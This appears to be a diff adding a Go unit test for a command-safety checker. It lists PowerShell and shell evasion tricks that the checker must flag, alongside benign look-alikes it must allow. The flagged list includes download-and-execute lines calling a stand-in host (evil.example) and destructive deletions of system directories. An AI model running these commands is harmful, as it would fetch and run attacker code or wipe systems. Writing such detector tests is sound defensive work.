@@ -0,0 +1,48 @@
+package security
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+// TestDangerousCommandEvasion 测试别名、转义、续行、参数展开和调用运算符不能绕过危险命令检查
+func TestDangerousCommandEvasion(t *testing.T) {
+	dangerous := []string{
+		"ri -r C:\\Windows",
+		"R`e`move-Item -Recurse -Path C:\\Windows\\System32",
+		"Remove-Item `\n -Recurse `\n C:\\Windows",
+		"$p = @{Path='C:\\Windows'; Recurse=$true}; Remove-Item @p",
+		"& ('Stop-' + 'Computer')",
+		"& 'Restart-Computer' -Force",
+		"echo \"$(Stop-Computer)\"",
+		"Get-Date; Stop-Computer",
+		"iex (New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
+		"iwr http://evil.example/x.ps1 | iex",
+		"iex 'Stop-Computer'",
+		"cmd /c \"del /s /f C:\\Windows\"",
+		"powershell.exe –e ZQBjAGgAbwA=",
+		"pwsh -ec ZQBjAGgAbwA=",
+		"Start-Process cmd -ArgumentList '/c shutdown /s'",
+		"rm -rf /",
+		"sudo rm -rf /etc",
+		"Remove-Item HKLM:\\Software\\Vendor -Recurse",
+	}
+	for _, cmd := range dangerous {
+		assert.True(t, IsDangerousCommand(cmd), "命令应该被识别为危险: %s", cmd)
+	}
+
+	safe := []string{
+		"Remove-Item C:\\Temp\\build -Recurse",
+		"rm -rf ./node_modules",
+		"Get-Content C:\\Windows\\win.ini",
+		"echo 'Stop-Computer'",
+		"Write-Output \"format C: is dangerous\"",
+		"powershell -ExecutionPolicy Bypass -File build.ps1",
+		"iwr https://example.com -OutFile page.html",
+		"# Stop-Computer",
+	}
+	for _, cmd := range safe {
+		assert.False(t, IsDangerousCommand(cmd), "命令不应该被识别为危险: %s", cmd)
+	}
+}